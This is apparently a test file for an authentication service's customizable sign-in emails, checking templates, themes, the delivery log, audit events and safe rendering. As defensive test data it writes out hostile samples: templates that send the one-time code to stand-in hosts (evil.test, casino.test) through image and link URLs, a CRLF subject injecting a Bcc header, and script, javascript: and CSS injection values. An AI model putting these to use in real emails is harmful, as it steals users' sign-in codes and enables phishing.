import { eq } from "drizzle-orm";
import { describe, expect, inject, it } from "vitest";
import { sentEmails } from "../../db/emails/schema";
import type { Json } from "../../protocol/fields";
import { callbackUrl, emailCode, redeemCode, sendCode } from "../../testing/code-sign-ins";
import { freshAddress, mailbox } from "../../testing/mailbox";
import { owner } from "../../testing/owner";
import { signUp } from "../../testing/password-sign-ins";
import { db, internalProject, project, type TestProject } from "../../testing/project";
import { sendRequest } from "../../testing/send-request";
import { renderSystemEmail } from "./system-email";

const light = "1df07ae6-abf3-4a40-83a5-a1a2cbe336ac";
const dark = "a0172b5d-cff0-463b-83bb-85124697373a";
const magicLink = "822687fe-8d0a-4467-a0d1-416b6e639478";
const emailVerification = "e7d009ce-8d47-4528-b245-5bf119f2ffa3";

/** A template of sign-in emails. */
const templateOf = (body: string, before = "") => `import { NotificationCategory, Subject } from "@stackframe/emails";
export const variablesSchema = (variables) => variables;
export function EmailTemplate({ variables, user, project }) {
  ${before}
  return <>
    <Subject value={"Own: Your code is " + variables.otp} />
    <NotificationCategory value="Transactional" />
    ${body}
  </>;
}
`;
const button = "<a href={variables.magicLink}>Sign in</a>";
const themeOf = (className: string) =>
  `export const EmailTheme = ({ children }) => <main className="${className}">{children}</main>;`;

const changed = (tsxSource: string, fields: Record<string, Json> = {}): Record<string, Json> => ({
  [`emails.templates.${magicLink}`]: { displayName: "Magic Link/OTP", tsxSource, ...fields },
});
const signInProject = (override: Record<string, Json>) => project({ "auth.otp.allowSignIn": true, ...override });

async function problemsOf(p: TestProject) {
  const { body } = await p.admin("GET /internal/audit-events", { query: { type: "email_template.failed" } });
  return body.items as { target: unknown; actor: unknown; details: unknown }[];
}

async function logOf({ id }: { id: string }) {
  const [rows] = await db.batch([db.select().from(sentEmails).where(eq(sentEmails.projectId, id))]);
  return rows;
}

describe("the system emails of a project that has changed them", () => {
  it("say what the template says, in the active theme, and the code in them signs in", async () => {
    const theme = { [`emails.themes.${light}.tsxSource`]: themeOf("own-theme") };
    const p = await signInProject({ ...changed(templateOf(`<p>Mine {project.displayName}</p>${button}`)), ...theme });
    const { message, linked, typed, nonce } = await emailCode(p);
    expect(message?.subject).toMatch(/^Own: Your code is [A-Z0-9]{6}$/);
    expect(message?.html).toMatch(/<main class="own-theme"><p>Mine (<!-- -->)?Test project<\/p>/);
    expect(message?.text).toContain("Mine Test project");
    expect(message?.links).toHaveLength(1);
    expect((await redeemCode(p, linked)).status).toBe(200);
    expect(typed + nonce).not.toBe("");
    expect(await problemsOf(p)).toEqual([]);
  });

  it("are the source that the list of templates shows, before it is changed and after a comment in it", async () => {
    const look = { "appearance.accentColor": "#1f5f4f" };
    const { body } = await (await signInProject(look)).admin("GET /internal/email-templates");
    const templates = body.templates as { id: string; tsx_source: string }[];
    const source = templates.find(({ id }) => id === magicLink)?.tsx_source ?? "";
    const [unchanged, commented] = await Promise.all(
      [{}, changed(`${source}// A comment.\n`)].map(async (override) => {
        const { message, linked, typed } = await emailCode(await signInProject({ ...look, ...override }));
        const parts = [message?.subject ?? "", message?.html ?? "", message?.text ?? ""];
        return parts.map((part) => part.replaceAll(linked, "LINKED").replaceAll(typed, "TYPED"));
      }),
    );
    expect(unchanged).toEqual(commented);
    expect(unchanged?.[1]).toContain("background-color:#1f5f4f");
    expect(unchanged?.[2]).toMatch(/^Test project\n\nSign in to Test project\n\nHello,\n/);
  });

  it("have the code not in the delivery log, however the template writes it", async () => {
    const p = await signInProject(
      changed(templateOf(button).replace("variables.otp}", "variables.otp.toLowerCase()}")),
    );
    await sendCode(p, freshAddress());
    expect(await logOf(p)).toMatchObject([{ subject: "Own: Your code is ••••••", error: null }]);
  });

  it("take the theme that the template names, and each as it comes where nothing else is changed", async () => {
    const themes = { [`emails.themes.${dark}.tsxSource`]: themeOf("own-dark") };
    for (const [override, shown] of [
      [{ ...changed(templateOf(button), { themeId: dark }), ...themes }, 'class="own-dark"'],
      [{ "emails.selectedThemeId": dark, ...themes }, 'class="own-dark"'],
      [changed(templateOf(button), { themeId: false }), ">Sign in</a>"],
      // As every project has it, with the button in its own look.
      [{}, 'class="button"'],
    ] as const) {
      const { message } = await emailCode(await signInProject(override));
      expect(message?.html).toContain(shown);
    }
  });

  it("give older templates the names that they declare, without what email programs would link", async () => {
    const source = `import { Subject } from "@stackframe/emails";
import { type } from "arktype";
export const variablesSchema = type({ emailVerificationLink: "string", projectDisplayName: "string", userDisplayName: "string" });
export function EmailTemplate({ variables: { emailVerificationLink, ...names }, user, project }) {
  return <><Subject value="Own" /><a href={emailVerificationLink}>Verify</a><pre>{JSON.stringify({ names, user, project })}</pre></>;
}`;
    const p = await project({ [`emails.templates.${emailVerification}`]: { displayName: "x", tsxSource: source } });
    const email = freshAddress();
    await signUp(p, { email });
    const [message] = await mailbox({ to: email });
    expect(await problemsOf(p)).toEqual([]);
    expect(message?.subject).toBe("Own");
    const names = { projectDisplayName: "Test project", userDisplayName: "" };
    expect(message?.text.replaceAll("\n", " ")).toContain(
      `${JSON.stringify({ names, user: { displayName: null }, project: { displayName: "Test project" } }).slice(0, -2)},`,
    );
  });

  it("go out by the project's own server too", async () => {
    const port = inject("mailServers").plainPort;
    const server = { isShared: false, host: "127.0.0.1", port, senderName: "Mine", senderEmail: "mail@acme.test" };
    const p = await signInProject({ ...changed(templateOf(button)), "emails.server": server });
    const { message } = await emailCode(p);
    expect([message?.message.from?.address, message?.subject.slice(0, 4)]).toEqual(["mail@acme.test", "Own:"]);
  });
});

// Attack: a source that breaks, or is broken by a change of what it is given, locks all users out.
describe("a template that does not work when an email is sent", () => {
  // Evidence: project-has-where-audit-log-says
  it.each([
    ["does not compile", "export const {", { reason: "source", file: "template" }],
    ["throws the code", templateOf(button, "throw new Error(variables.otp);"), { reason: "source", line: 4 }],
    ["loops for ever", templateOf(button, "for (;;) {}"), { reason: "source" }],
    ["has no link", templateOf("<p>Welcome</p>"), { reason: "link" }],
    ["links to another page", templateOf('<a href="https://evil.test/">Sign in</a>'), { reason: "link" }],
    [
      "has an image with the code",
      templateOf(`${button}<img src={"https://evil.test/?c=" + variables.otp} />`),
      { reason: "address" },
    ],
    [
      "links to a page that passes the code on",
      templateOf(`${button}<a href={"https://evil.test/?to=" + encodeURIComponent(variables.magicLink)}>Go</a>`),
      { reason: "address" },
    ],
  ])("200 as every project has it where one %s, which the audit log says once an hour", async (_, source, details) => {
    const p = await signInProject(changed(source));
    const { message, linked, typed } = await emailCode(p);
    expect(message?.subject).toMatch(/^Sign in to Test project: Your code is /);
    expect((await redeemCode(p, linked)).status).toBe(200);
    await sendCode(p, freshAddress());
    expect((await logOf(p)).map(({ error }) => error)).toEqual([null, null]);

    const problems = await problemsOf(p);
    expect(problems).toMatchObject([
      { actor: { type: "system" }, target: { type: "email_template", id: magicLink }, details },
    ]);
    for (const secret of [typed, linked]) expect(JSON.stringify(problems)).not.toContain(secret);
  });

  it("200 as every project has it where one asks for other variables, or the theme is broken", async () => {
    const asking = `import { type } from "arktype";
${templateOf(button).replace(/variablesSchema = .*/, 'variablesSchema = type({ missing: "string" });')}`;
    for (const override of [changed(asking), { [`emails.themes.${light}.tsxSource`]: "export {};" }]) {
      const p = await signInProject(override);
      expect((await emailCode(p)).typed).toMatch(/^[A-Z0-9]{6}$/);
      expect(await problemsOf(p)).toHaveLength(1);
    }
  });

  it("200 as every project has it where the instance renders no sources of users", async () => {
    const [p, to] = [await signInProject(changed(templateOf(button))), freshAddress()];
    const body = { email: to, callback_url: callbackUrl };
    await p.client("POST /auth/otp/send-sign-in-code", { body, settings: { SANDBOX: undefined } });
    const [message] = await mailbox({ to });
    expect(message?.subject).toMatch(/^Sign in to Test project: Your code is /);
    expect(await problemsOf(p)).toMatchObject([{ details: { reason: "unavailable" } }]);
  });

  it("200 in a theme that every project has, also where the instance renders no sources of users", async () => {
    const [p, to] = [await signInProject({ "emails.selectedThemeId": dark }), freshAddress()];
    const body = { email: to, callback_url: callbackUrl };
    await p.client("POST /auth/otp/send-sign-in-code", { body, settings: { SANDBOX: undefined } });
    const [message] = await mailbox({ to });
    expect(message?.html).toContain('name="color-scheme" content="dark"');
    const code = new URL(message?.links[0] ?? "").searchParams.get("code") ?? "";
    expect((await redeemCode(p, code)).status).toBe(200);
    expect(await problemsOf(p)).toEqual([]);
  });

  // Evidence: has-lines-subject-project-where-has
  it("has no lines in its subject, and that of every project where it has none", async () => {
    // Attack: a subject with lines of its own adds headers to the email.
    const subject = (value: string) => templateOf(button).replace(/<Subject .*/, value);
    const lines = subject('<Subject value={"One\\r\\nBcc: evil@evil.test\\u0000"} />');
    for (const [source, expected] of [
      [lines, /^One Bcc: evil@evil.test$/],
      [subject(""), /^Sign in to Test project: Your code is /],
    ] as const) {
      const [p, to] = [await signInProject(changed(source)), freshAddress()];
      await sendCode(p, to);
      const [message] = await mailbox({ to });
      expect(message?.subject).toMatch(expected);
      expect(message?.raw).not.toMatch(/^Bcc:/m);
      expect(message?.html).toContain(">Sign in</a>");
    }
  });
});

describe("a project on the shared mail server of a deployment", () => {
  // Evidence: sends-text-own-template-theme-but
  // Attack: a stranger's project has the instance's mail server deliver advertisements, as emails of signing in.
  it("sends no text of its own, by template or theme, but in each theme that every project has", async () => {
    const { userId, teamId, token, client } = await owner();
    const email = freshAddress();
    const address = { type: "email", value: email, is_primary: true, is_verified: true, used_for_auth: true };
    await internalProject().server("POST /contact-channels", { body: { user_id: userId, ...address } });
    const { body } = await client("POST /internal/projects", {
      body: {
        display_name: "Acme",
        owner_team_id: teamId,
        config: { magic_link_enabled: true, allow_localhost: true },
      },
    });
    const id = body.id as string;
    const headers = {
      "x-stack-project-id": id,
      "x-stack-access-type": "admin",
      "x-stack-admin-access-token": token,
      "cf-connecting-ip": "2001:db8:cccc::1",
    };
    const settings = { RATE_LIMITS: "on" };
    const emailAfter = async (patch: object) => {
      const to = freshAddress();
      const override = { config_override_string: JSON.stringify(patch) };
      await sendRequest("PATCH /internal/config/override", { headers, body: override });
      const body = { email: to, callback_url: callbackUrl };
      await sendRequest("POST /auth/otp/send-sign-in-code", { headers, settings, body });
      return (await mailbox({ to }))[0];
    };
    const template = await emailAfter(changed(templateOf(button)));
    expect(template?.subject).toMatch(/^Sign in to Acme: Your code is /);
    expect(template?.html).toContain('class="button"');

    // Attack: a theme that hides our words, shows others, and hands the code to its own server in the address of an image.
    const phishing = `export const EmailTheme = ({ children }) => <main><div data-skip-in-text="true">Win at casino.test
  <img src={"https://casino.test/?a=" + children.props.variables?.otp} /></div><div style={{ display: "none" }}>{children}</div></main>;`;
    const selective = `export const EmailTheme = ({ children: email }) =>
  <main>Win at casino.test {mail.type(mail.props).props.children.slice(5)}</main>;`;
    for (const tsxSource of [phishing, selective]) {
      const message = await emailAfter({ [`emails.themes.${light}`]: { displayName: "Ads", tsxSource } });
      expect(message?.subject).toMatch(/^Sign in to Acme: Your code is /);
      expect(message?.text).toContain("Type this code where you are signing in:");
      expect(message?.html).toContain('class="card"');
      expect(message?.html).not.toContain("casino");
    }
    const query = { type: "email_template.failed" };
    const { body: failures } = await sendRequest("GET /internal/audit-events", { headers, query });
    expect(failures.items).toEqual([]);

    await emailAfter({ [`emails.themes.${light}`]: null });
    const inDark = await emailAfter({ "emails.selectedThemeId": dark });
    expect(inDark?.html).toContain('name="color-scheme" content="dark"');
    expect(inDark?.links).toHaveLength(1);
  });
});

const link = `https://acme.test/handler/magic-link-callback?code=${"x".repeat(100)}`;
const variables = {
  projectDisplayName: "Acme",
  userDisplayName: "Ada",
  validFor: "10 minutes",
  magicLink: link,
  otp: "AB12CD",
};

const emailWith = (look: { logoUrl?: string | null; accentColor?: string }) =>
  renderSystemEmail("magic_link", variables, { logoUrl: null, accentColor: undefined, ...look });

/** The colours of the button and of its text, as they are written and in dark email programs. */
function buttonColours(html: string): (string | undefined)[] {
  const [, dark, darkText] =
    /\.button \{ background-color: (\S+) !important; color: (\S+) !important; \}/.exec(html) ?? [];
  const style = /<a [^>]*class="button" style="([^"]*)"/.exec(html)?.[1] ?? "";
  const colour = /(?:^|;)color:([^;]*)/.exec(style)?.[1];
  return [/background-color:([^;]*)/.exec(style)?.[1], colour, dark, darkText];
}

describe("the look of an email", () => {
  it.each([
    [undefined, ["#15171c", "#ffffff", "#f4f5f7", "#15171c"]],
    ["#1f5f4f", ["#1f5f4f", "#ffffff", "#1f5f4f", "#ffffff"]],
    ["#FFD400", ["#FFD400", "#000000", "#FFD400", "#000000"]],
    // About the middle, where one of the two still has 4.58:1.
    ["#757575", ["#757575", "#ffffff", "#757575", "#ffffff"]],
    ["#777777", ["#777777", "#000000", "#777777", "#000000"]],
  ])("with the accent colour %s has a button of it, with a text that can be read", (accentColor, colours) => {
    expect(buttonColours(emailWith({ ...(accentColor && { accentColor }) }).html)).toEqual(colours);
  });

  it("has the logo beside the project's name, and no image without one", () => {
    expect(emailWith({ logoUrl: "https://acme.test/logo.png?a=1&b=2" }).html).toMatch(
      /<img src="https:\/\/acme\.test\/logo\.png\?a=1&amp;b=2" alt="" height="32" [^>]*>(?:<!-- -->)?Acme<\/p>/,
    );
    expect(emailWith({}).html).not.toContain("<img");
  });

  // Attack: a script or a style of the owner's choice in emails that carry the operator's sender address.
  it("takes no logo and no colour that is not one", () => {
    for (const logoUrl of [
      "data:image/png;base64,AAAA",
      "javascript:alert(1)",
      "//evil.example/a",
      "https://",
      "logo",
    ]) {
      expect(emailWith({ logoUrl }).html).not.toContain("<img");
    }
    const [quoted] = /<img [^>]*>/.exec(emailWith({ logoUrl: 'https://a.test/"><script>x</script>' }).html) ?? [];
    expect(quoted).toContain('src="https://a.test/%22%3E%3Cscript%3Ex%3C/script%3E"');
    for (const accentColor of ["red", "#fff", '#ffffff;" onload="', "#1f5f4f}*{display:none"]) {
      expect(emailWith({ accentColor }).html).toBe(emailWith({}).html);
    }
  });

  it("is the same in plain text, in lines of 72 characters, with the link on one of its own", () => {
    const { text } = emailWith({ logoUrl: "https://acme.test/logo.png", accentColor: "#1f5f4f" });
    expect(text.split("\n")).toEqual([
      "Acme",
      "",
      "Sign in to Acme",
      "",
      "Hello Ada,",
      "",
      "Type this code where you are signing in:",
      "",
      "AB12CD",
      "",
      "Or sign in with one click. Code and link are valid for 10 minutes and",
      "can be used once.",
      "",
      "Sign in",
      "",
      link,
      "",
      "--",
      "",
      "You did not try to sign in? Then ignore this email, and do not give the",
      "code to anyone.",
    ]);
  });

  it("wraps no link, however long, in no more than a moment", () => {
    const longest = `https://acme.test/${"a".repeat(900_000)}`;
    const { text } = renderSystemEmail("magic_link", { ...variables, magicLink: longest });
    expect(text.split("\n")).toContain(longest);
  });
});
